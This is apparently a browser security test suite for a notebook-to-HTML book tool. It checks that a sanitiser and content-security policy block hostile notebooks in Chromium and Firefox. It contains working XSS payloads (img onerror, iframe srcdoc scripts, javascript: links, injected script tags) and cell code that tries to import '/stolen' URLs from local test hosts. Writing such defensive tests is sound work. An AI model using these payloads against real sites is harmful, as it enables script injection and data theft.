import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { singlePage } from "../../../../tools/book/live/single";
import { hasChromium, launchChromium } from "../../../support/browser/chromium";
import { Firefox, hasFirefox } from "../../../support/browser/firefox";
import { giveAssets } from "../../../support/browser/liveBook";
import { StaticHost } from "../../../support/browser/staticHost";
import { ChapterFolder, hasJupyter } from "../../../support/notebooks/chapters";
import { hostileMarkup, hostileNotebook, invalidNotebook } from "../../../support/notebooks/hostileNotebook";

const HOSTILE = `02-"><img src=x onerror=(window.pwned=[]).push('name')>`;

/** A tab of either browser: functions go there as texts. */
interface Tab {
  goto(url: string): Promise<unknown>;
  evaluate<Result>(action: string): Promise<Result>;
  click(x: number, y: number): Promise<unknown>;
  close(): Promise<void>;
}

/** What a reader may press, and what lies on top at its middle, once it is in view. */
const covered = `() => ["a.brand", "button.theme", ".search input", ".live-bar button", ".cell .live-tools button"].flatMap((name) =>
  [...document.querySelectorAll(name)].filter((part) => {
    if (!part.checkVisibility()) return false;
    part.scrollIntoView({ block: "center" });
    const { left, top, width, height } = part.getBoundingClientRect();
    const found = document.elementFromPoint(left + width / 2, top + height / 2);
    return !found || !(part.contains(found) || found.contains(part) && getComputedStyle(part).pointerEvents === "none");
  }).map((part) => name + ": " + part.textContent))`;

/** Presses what looks like a link and leads nowhere, tells where the others lead, and lets the figures near the window come to life. */
const provoke = `async () => {
  for (const part of document.querySelectorAll("main *")) {
    part.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
    part.dispatchEvent(new Event("toggle"));
  }
  for (const figure of document.querySelectorAll("main figure, main details")) figure.scrollIntoView();
  await new Promise((resolve) => setTimeout(resolve, 500));
  const links = [...document.querySelectorAll("main a")];
  for (const link of links) if (!/^(https?|file|mailto):/.test(link.protocol) || link.getAttribute("href") === "#") link.click();
  await new Promise((resolve) => setTimeout(resolve, 500));
  return [...new Set(links.filter((link) => link.hasAttribute("href")).map((link) => link.protocol))];
}`;

/** What the policy has to stop by itself, had the cleaner let it pass. Firefox asks no policy about files of the disk. */
const inject = `async (withFile) => {
  const host = document.createElement("div");
  host.innerHTML = \`<img src="data:," onerror="window.pwned = ['handler']"><iframe srcdoc="<script>parent.pwned = ['frame']</scr\${""}ipt>"></iframe><a href="javascript:window.pwned = ['link']">x</a>\`;
  document.body.append(host);
  host.querySelector("a").click();
  const script = document.createElement("script");
  script.textContent = "window.pwned = ['script']";
  const other = Object.assign(document.createElement("script"), { src: "assets/injected.js" });
  document.body.append(script);
  if (withFile) document.body.append(other);
  await new Promise((resolve) => setTimeout(resolve, 500));
  host.remove();
}`;

/** What a cell of the reader shows, against the page that shows it. */
const overlay = `import { show } from "./kit/figures/show";
show({ text: "", html: '<div class="theme" id="notebook" style="position:fixed;inset:0;z-index:9999;color:red">lies over all</div>' });`;

describe.skipIf(!hasJupyter() || !hasChromium())("a page of somebody else's notebook", () => {
  const folder = new ChapterFolder();
  const book = folder.file("book");
  let stranger: StaticHost;
  let host: StaticHost;
  let chromium: Browser;
  let firefox: Firefox | undefined;

  beforeAll(async () => {
    stranger = await StaticHost.start(folder.file("nothing"));
    folder.write("01-own.ipynb", [{ prose: "# Own\n\nFive litres." }, { code: "1" }]);
    writeFileSync(folder.file(`${HOSTILE}.ipynb`), JSON.stringify(hostileNotebook(stranger.address)));
    writeFileSync(folder.file("03-invalid.ipynb"), JSON.stringify(invalidNotebook()));
    await giveAssets(book);
    const { code, printed } = folder.run("book", "--as-is", "--out", book);
    expect(printed).toMatch(/^ok {4}02-/m);
    expect([code, printed]).toEqual([1, expect.stringMatching(/^FAIL {2}03-[\s\S]*does not match/m)]);
    expect(existsSync(`${book}/03-invalid.html`)).toBe(false);
    writeFileSync(`${book}/assets/injected.js`, "window.pwned = ['file']");
    writeFileSync(`${book}/single.html`, singlePage(book, `${HOSTILE}.html`));
    host = await StaticHost.start(book);
    chromium = await launchChromium();
    firefox = hasFirefox() ? await Firefox.launch() : undefined;
  }, 240_000);

  afterAll(async () => {
    await chromium?.close();
    await firefox?.close();
    stranger?.stop();
    host?.stop();
  });

  async function open(browser: string): Promise<Tab> {
    if (browser === "Firefox") return firefox!.open("about:blank");
    const page = await chromium.newPage({ viewport: { width: 1200, height: 900 } });
    return {
      goto: (url) => page.goto(url),
      evaluate: (action) => page.evaluate(`(${action})()`),
      click: (x, y) => page.mouse.click(x, y),
      close: () => page.context().close(),
    };
  }

  const places = ["from disk", "over http"];
  const browsers = hasFirefox() ? ["Chromium", "Firefox"] : ["Chromium"];
  const cases = browsers.flatMap((browser) => places.map((place) => [browser, place] as const));

  it("brings at least as many attacks as this", () => {
    expect(hostileMarkup("").length).toBeGreaterThanOrEqual(25);
  });

  describe.each(cases)("in %s, %s", (browser, place) => {
    const address = (name: string) =>
      place === "from disk"
        ? pathToFileURL(`${book}/${name}`).href
        : `${host.address}/${encodeURIComponent(name)}`;
    let tab: Tab;
    const text = (cell: string) =>
      tab.evaluate<string>(
        `() => document.getElementById("cell-${cell}").querySelector(".outputs").textContent.trim()`,
      );
    const pwned = () => tab.evaluate<string[] | null>("() => window.pwned ?? null");

    beforeAll(async () => {
      stranger.asked.length = host.asked.length = 0;
      tab = await open(browser);
    });
    afterAll(() => tab?.close());

    it.each([
      ["its own page", `${HOSTILE}.html`],
      ["a single file", "single.html"],
    ])("runs, asks, leaves and covers nothing: %s", async (_, name) => {
      await tab.goto(address(name));
      await expect.poll(() => tab.evaluate("() => 'puzzleRoom' in window"), { timeout: 10_000 }).toBe(true);
      expect(await tab.evaluate("() => document.querySelectorAll('figure .puzzle-panel').length")).toBe(1);
      const first = await tab.evaluate("() => location.href");
      expect(await tab.evaluate(provoke)).not.toContain("javascript:");
      expect(await pwned()).toBeNull();
      expect((await tab.evaluate<string>("() => location.href")).replace(/#.*/, "")).toBe(first);
      expect(stranger.asked).toEqual([]);
      expect(await tab.evaluate("() => document.querySelectorAll('main svg a').length")).toBe(0);
      expect(await tab.evaluate("() => document.querySelector('[id=watch-00000005]').textContent")).toMatch(
        /does not move: .*300,000,000 nodes/,
      );
      expect(await tab.evaluate("() => getComputedStyle(document.body).display")).toBe("block");
      expect(await tab.evaluate(covered)).toEqual([]);
      const markup = await tab.evaluate<string>("() => document.querySelector('main').outerHTML");
      expect(markup.replaceAll(/<script type="application\/json">[^<]*<\/script>/g, "")).not.toMatch(
        /<(script|style|iframe|object|embed|form|input|base|meta|link|math|template|video)\b[^>]*>(?!\.puzzle)/,
      );
      expect(markup).not.toMatch(/<[a-z]+ [^>"]*("[^"]*"[^>"]*)* on\w+=/);
    });

    it("works: theme, search and cells", async () => {
      await tab.goto(address(`${HOSTILE}.html`));
      const [x, y] = await tab.evaluate<[number, number]>(`() => {
        const { left, top, width, height } = document.querySelector("button.theme").getBoundingClientRect();
        return [left + width / 2, top + height / 2];
      }`);
      await tab.click(x, y);
      expect(await tab.evaluate("() => document.documentElement.dataset.theme")).toMatch(/dark|light/);
      await tab.evaluate(`() => document.querySelector("[aria-label='Run cell 1']").click()`);
      await expect.poll(() => text("run")).toBe("2");
      await tab.evaluate(`() => {
        const field = document.querySelector(".search input");
        field.value = "litres";
        field.dispatchEvent(new InputEvent("input"));
      }`);
      const found = "() => document.querySelector('.search ol').textContent";
      await expect.poll(() => tab.evaluate(found)).toContain("Own");
      await tab.goto(address("index.html"));
      expect(await pwned()).toBeNull();
      expect(await tab.evaluate("() => document.querySelectorAll('.chapters > li').length")).toBe(2);
    });

    it("has a policy that lets no script run but its own", async () => {
      for (const name of [`${HOSTILE}.html`, "single.html", "index.html"]) {
        await tab.goto(address(name));
        await tab.evaluate(`() => (${inject})(${!(browser === "Firefox" && place === "from disk")})`);
        expect([name, await pwned()]).toEqual([name, null]);
      }
      expect(readFileSync(`${book}/01-own.html`, "utf8")).toMatch(/script-src 'nonce-[\w-]{20,}' blob:;/);
    });

    it("gives a cell no way out, to the book's own host neither, and no place over the page", async () => {
      await tab.goto(address("01-own.html"));
      const runThere = (code: string) =>
        tab.evaluate(`() => {
          document.querySelector("[aria-label='Edit cell 1']").click();
          const area = document.querySelector("textarea");
          area.value = ${JSON.stringify(code)};
          area.dispatchEvent(new InputEvent("input", { bubbles: true }));
          document.querySelector("[aria-label='Run cell 1']").click();
        }`);
      host.asked.length = 0;
      await runThere(`const ways = ["${host.address}/stolen?x", "${stranger.address}/stolen", "/stolen", "data:text/javascript,1", "${pathToFileURL(`${book}/assets/injected.js`).href}"];
const ends = [];
for (const way of ways) await import(way).then(() => ends.push("open"), () => ends.push("shut"));
console.log(ends.join(" "));`);
      await expect.poll(() => text("cell-1")).toBe("shut shut shut shut shut");
      expect([...host.asked, ...stranger.asked].filter((url) => url.includes("stolen"))).toEqual([]);
      await runThere(overlay);
      await expect.poll(() => text("cell-1")).toBe("lies over all");
      expect(await tab.evaluate(covered)).toEqual([]);
      const shown = "document.querySelector('.output.html > div')";
      expect(
        await tab.evaluate(
          `() => [${shown}.id, ${shown}.className, getComputedStyle(${shown}).position, getComputedStyle(${shown}).color]`,
        ),
      ).toEqual(["", "", "static", "rgb(255, 0, 0)"]);
    });
  });
});
